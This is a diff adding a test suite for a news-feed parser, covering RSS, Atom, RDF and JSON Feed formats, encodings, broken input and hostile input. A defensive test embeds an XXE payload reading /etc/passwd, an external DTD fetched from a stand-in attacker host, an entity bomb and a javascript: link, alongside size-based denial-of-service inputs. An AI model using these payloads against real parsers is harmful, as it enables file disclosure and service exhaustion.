@@ -1,0 +1,271 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { maxEntries } from "../../src/feeds/entry.ts";
+import { parseAside } from "../../src/feeds/parse-aside.ts";
+import { parseFeed } from "../../src/feeds/parse-feed.ts";
+import { rss } from "../worlds/feed-server.ts";
+
+const url = "https://herald.example/feeds/all.xml";
+const parse = (text: string | Buffer, charset?: string) =>
+  parseFeed({ url, body: Buffer.from(text as string), ...(charset === undefined ? {} : { charset }) });
+const first = (text: string | Buffer, charset?: string) => parse(text, charset)!.entries[0];
+const published = Date.UTC(2026, 2, 2, 10, 0, 0);
+
+const formats: [string, string, string][] = [
+  [
+    "RSS 0.91",
+    "rss",
+    `<rss version="0.91"><channel><title>Herald</title><item><title>Bridge opens</title><link>https://herald.example/bridge</link>
+     <description>On &lt;b&gt;Saturday&lt;/b&gt;.</description></item></channel></rss>`,
+  ],
+  [
+    "RSS 2.0",
+    "rss",
+    `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Herald</title><ttl>15</ttl>
+     <item><guid isPermaLink="true">https://herald.example/bridge</guid><title>Bridge opens</title>
+     <description>On <![CDATA[<b>Saturday</b>]]>.</description><dc:date>2026-03-02T11:00:00+01:00</dc:date></item></channel></rss>`,
+  ],
+  [
+    "RSS 0.90",
+    "rdf",
+    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://channel.netscape.com/rdf/simple/0.9/">
+     <channel><title>Herald</title></channel><item><title>Bridge opens</title><link>https://herald.example/bridge</link></item></rdf:RDF>`,
+  ],
+  [
+    "RSS 1.0 (RDF), with the vocabulary under a prefix",
+    "rdf",
+    `<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:rss="http://purl.org/rss/1.0/" xmlns:dcx="http://purl.org/dc/elements/1.1/">
+     <rss:channel><rss:title>Herald</rss:title></rss:channel>
+     <rss:item r:about="https://herald.example/bridge"><rss:title>Bridge opens</rss:title><dcx:date>2026-03-02T10:00:00Z</dcx:date></rss:item></r:RDF>`,
+  ],
+  [
+    "Atom",
+    "atom",
+    `<feed xmlns="http://www.w3.org/2005/Atom"><title>Herald</title><link rel="self" href="/feeds/all.xml"/>
+     <entry><id>tag:herald.example,2026:bridge</id><title type="html">Bridge &lt;i&gt;opens&lt;/i&gt;</title>
+     <link rel="enclosure" href="/bridge.mp3"/><link href="/bridge"/><published>2026-03-02T10:00:00Z</published>
+     <source><title>Another paper</title><link href="https://other.example/"/></source></entry></feed>`,
+  ],
+  [
+    "Atom under a prefix, with an XHTML title",
+    "atom",
+    `<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Herald</a:title><a:entry><a:id>1</a:id>
+     <a:title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Bridge <b>opens</b></div></a:title>
+     <a:link rel="alternate" href="https://herald.example/bridge"/></a:entry></a:feed>`,
+  ],
+  [
+    "JSON Feed",
+    "json",
+    JSON.stringify({
+      version: "https://jsonfeed.org/version/1.1",
+      title: "Herald",
+      items: [
+        { id: 7, url: "/bridge", title: "Bridge opens", date_published: "2026-03-02T11:00:00+01:00", tags: ["City"] },
+      ],
+    }),
+  ],
+];
+
+describe("a feed", () => {
+  test.for(formats)("is read as %s", ([, format, text]) => {
+    const feed = parse(text)!;
+    expect(feed).toMatchObject({ format, title: "Herald", isCut: false });
+    expect(feed.entries).toHaveLength(1);
+    expect(feed.entries[0]).toMatchObject({ title: "Bridge opens", url: "https://herald.example/bridge" });
+    expect([null, published]).toContain(feed.entries[0]!.publishedMs);
+  });
+
+  test("is none: a page, other XML, other JSON, a picture, nothing", () => {
+    const others = [
+      "<!doctype html><title>Herald</title>",
+      "<opml><body/></opml>",
+      '{"items":[1]}',
+      "[1]",
+      "\u0000PNG",
+      "",
+    ];
+    for (const other of others) expect(parse(other), other).toBeNull();
+  });
+
+  test("tells its ttl, its hubs and itself, in Atom, in RSS and in JSON", () => {
+    const links =
+      '<atom:link rel="hub" href="https://hub.example/"/><atom:link rel="self" href="https://herald.example/rss"/>';
+    expect(parse(rss([], `<ttl> 15 </ttl>${links}`))).toMatchObject({
+      ...{ ttlMinutes: 15, hubs: ["https://hub.example/"], self: "https://herald.example/rss" },
+    });
+    const json = {
+      version: "https://jsonfeed.org/version/1",
+      items: [],
+      hubs: [{ type: "WebSub", url: "https://hub.example/" }],
+    };
+    expect(parse(JSON.stringify(json))).toMatchObject({ hubs: ["https://hub.example/"] });
+  });
+});
+
+describe("titles", () => {
+  test.for([
+    ["once escaped", "Fish &amp; chips", "Fish & chips"],
+    ["twice escaped", "Fish &amp;amp; chips &amp;#8211; now", "Fish & chips – now"],
+    ["with entities of HTML that XML does not know", "Caf&eacute;&nbsp;news", "Café news"],
+    ["in CDATA", "<![CDATA[Fish &amp; <b>chips</b>]]>", "Fish & chips"],
+    ["with a sign that is no tag", "5 &lt; 6 and 7 &gt; 6", "5 < 6 and 7 > 6"],
+    ["over several lines", "Fish\n   and\tchips", "Fish and chips"],
+    ["with what turns the direction of text", "Fish \u202eand\u202c chips", "Fish and chips"],
+  ] as const)("are clean text: %s", ([, written, read]) => {
+    expect(first(rss([{ title: written, link: "https://a.example/" }]))!.title).toBe(read);
+  });
+
+  test("of Atom are text unless they say html", () => {
+    const atom = (type: string) =>
+      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title ${type}>R&amp;amp;D</title></entry></feed>`;
+    expect(first(atom(""))!.title).toBe("R&amp;D");
+    expect(first(atom('type="html"'))!.title).toBe("R&D");
+  });
+});
+
+describe("links", () => {
+  test.for([
+    ["a path", "<link>/bridge</link>", "https://herald.example/bridge"],
+    ["relative to the feed", "<link>bridge?id=1&amp;x=2</link>", "https://herald.example/feeds/bridge?id=1&x=2"],
+    [
+      "in CDATA, with space around",
+      "<link> <![CDATA[https://herald.example/bridge]]>\n</link>",
+      "https://herald.example/bridge",
+    ],
+    [
+      "a guid that is a permalink",
+      '<guid isPermaLink="true">https://herald.example/g</guid>',
+      "https://herald.example/g",
+    ],
+    ["Atom's, in RSS", '<atom:link href="https://herald.example/a"/>', "https://herald.example/a"],
+    [
+      "the original one of a feed service",
+      "<feedburner:origLink>https://herald.example/o</feedburner:origLink><link>https://proxy.example/1</link>",
+      "https://herald.example/o",
+    ],
+    ["a script", "<link>javascript:alert(1)</link>", null],
+    ["with a user name", "<link>https://me:pw@herald.example/</link>", null],
+    ["none", "", null],
+  ] as const)("are resolved: %s", ([, more, address]) => {
+    expect(first(rss([{ title: "x", more }]))!.url).toBe(address);
+  });
+
+  test("are relative to xml:base where there is one", () => {
+    const text = `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/news/"><entry xml:base="city/"><id>1</id><link href="bridge"/></entry></feed>`;
+    expect(first(text)!.url).toBe("https://base.example/news/city/bridge");
+  });
+});
+
+describe("encodings", () => {
+  const declared = (encoding: string) =>
+    rss([{ title: "Müller – Straße", link: "https://a.example/" }]).replace("UTF-8", encoding);
+  const latin1 = (text: string) => Buffer.from(text.replaceAll("–", "\u0096"), "latin1");
+
+  test.for([
+    ["UTF-8 that the header calls Latin-1", Buffer.from(declared("UTF-8")), "iso-8859-1"],
+    ["UTF-8 that declares itself Latin-1", Buffer.from(declared("ISO-8859-1")), undefined],
+    ["Latin-1 by its declaration", latin1(declared("ISO-8859-1")), undefined],
+    ["windows-1252 that declares itself UTF-8", latin1(declared("UTF-8")), "utf-8"],
+    ["windows-1252 that says nothing", latin1(declared("UTF-8").replace(/<\?xml.*?\?>/, "")), undefined],
+    ["UTF-16 with a byte order mark", Buffer.from(`\ufeff${declared("UTF-16")}`, "utf16le"), undefined],
+    ["UTF-16 without one", Buffer.from(declared("UTF-16"), "utf16le"), undefined],
+    ["an encoding that there is not", Buffer.from(declared("X-NONE")), "x-none"],
+  ] as const)("are seen through: %s", ([, body, charset]) => {
+    expect(first(body, charset)!.title).toBe("Müller – Straße");
+  });
+
+  test("keep a text readable of which one byte is broken", () => {
+    const body = Buffer.from(declared("UTF-8"));
+    body[body.indexOf("Herald")] = 0xff;
+    expect(first(body)!.title).toBe("Müller – Straße");
+  });
+});
+
+describe("a document that is broken", () => {
+  const three = [1, 2, 3].map((n) => ({ title: `Story ${n}`, link: `https://a.example/${n}` }));
+
+  test("loses only the entry at which it breaks off", () => {
+    const whole = rss(three);
+    const feed = parse(whole.slice(0, whole.indexOf("/3</link>")))!;
+    expect(feed.entries.map(({ title }) => title)).toEqual(["Story 1", "Story 2"]);
+    expect(feed.isCut).toBe(true);
+  });
+
+  test("is read past warnings before it, bare ampersands, wrong nesting and items that are never closed", () => {
+    const text = `<br />\n<b>Warning</b>: in feed.php\n${rss(three).replaceAll("</item>", "").replace("Story 1", "Fish & <i>chips</b>")}`;
+    expect(parse(text)!.entries.map(({ title }) => title)).toEqual(["Fish & chips", "Story 2", "Story 3"]);
+  });
+
+  test("expands no entities of its own and fetches none: XXE and entity bombs are text", () => {
+    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">
+      <!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "https://attacker.example/x.dtd"> %out;]>`;
+    const text = rss([{ title: "&c;&file;", link: "https://a.example/" }]).replace(/<\?xml.*?\?>/, bomb);
+    expect(first(text)!.title).toBe("&c;&file;");
+  });
+
+  test("never makes it throw, whatever it is", () => {
+    const pieces = fc.constantFrom(
+      "<rss>",
+      "<channel>",
+      "<item>",
+      "</item>",
+      "<title>",
+      "</title>",
+      "<![CDATA[",
+      "]]>",
+      "&",
+      "&#x",
+      ";",
+      "<!--",
+      "-->",
+      "<?",
+      "xmlns='",
+      "<",
+      ">",
+      "/",
+      "\ud800",
+      "{",
+      '"items":[',
+    );
+    fc.assert(
+      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }), (parts) => void parse(parts.join(""))),
+    );
+    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => void parseFeed({ url, body: bytes })));
+  });
+});
+
+describe("a hostile document", () => {
+  const megabyte = 1024 * 1024;
+  test.for([
+    ["a million elements in each other", `<rss><channel>${"<a>".repeat(megabyte)}`],
+    ["end tags that close nothing", `<rss><channel>${"<a>".repeat(90)}${"</b>".repeat(megabyte)}`],
+    ["one endless title", `<rss><channel><item><title>${"&amp;".repeat(megabyte)}`],
+    ["a million attributes", `<rss ${"a='b' ".repeat(megabyte / 2)}>`],
+    ["brackets of JSON", "[".repeat(4 * megabyte)],
+  ] as const)("takes no longer than it is long: %s", async ([, text]) => {
+    const startedMs = performance.now();
+    expect((await parseAside({ url, body: Buffer.from(text) }))?.entries ?? []).toEqual([]);
+    expect(performance.now() - startedMs).toBeLessThan(15_000);
+  });
+
+  test("of 10 MB is read in a thread of its own, so that nothing else waits, and is cut at 10,000 entries", async () => {
+    const items = Array.from({ length: 60_000 }, (_, n) => ({
+      title: `Story ${n} ${"x".repeat(90)}`,
+      link: `https://a.example/${n}`,
+    }));
+    const body = Buffer.from(rss(items)).subarray(0, 10 * megabyte);
+    let longestMs = 0;
+    let lastMs = performance.now();
+    const beat = setInterval(() => {
+      longestMs = Math.max(longestMs, performance.now() - lastMs);
+      lastMs = performance.now();
+    }, 5);
+    const parsing = parseAside({ url, body });
+    const feed = await parsing;
+    clearInterval(beat);
+    expect(feed).toMatchObject({ isCut: true });
+    expect(feed!.entries).toHaveLength(maxEntries);
+    // Handing over and taking back 10 MB takes a moment, reading them takes seconds.
+    expect(longestMs).toBeLessThan(1_000);
+  });
+});
